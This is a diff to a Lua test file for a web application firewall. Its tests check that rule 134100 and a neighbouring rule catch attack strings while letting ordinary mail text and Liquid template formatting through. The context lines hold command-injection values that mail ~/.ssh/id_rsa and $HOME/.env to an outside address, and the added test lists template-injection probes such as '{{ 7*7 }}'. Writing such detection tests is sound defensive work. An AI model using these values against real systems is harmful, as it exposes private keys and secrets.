@@ -117,4 +117,10 @@ describe("edge.waf.rules hundred-and-ninety-ninth round on", function()
             "; mailx -s x a@b.example < ~/.ssh/id_rsa", "&& sendmail a@b.example < $HOME/.env" })
         clean({ "mail me at ann@example.org < 5pm please", "send mail to ann@example.org" })
     end)
+
+    it("templates: Liquid's filters with literal arguments after a colon are a store's display formatting", function()
+        caught_by(134100, { "{{ 7*7 }}", "{{ self | attr: \"x\" }}", "{{ x | default: self }}" })
+        clean({ "{{ article.author | default: \"Staff\" }}", "{{ order.created_at | date: \"%b %d, %Y\" }}",
+            "{{ x | replace: \"a\", \"b\" }}", "{{ product.title | truncate: 20 }}" })
+    end)
 end)
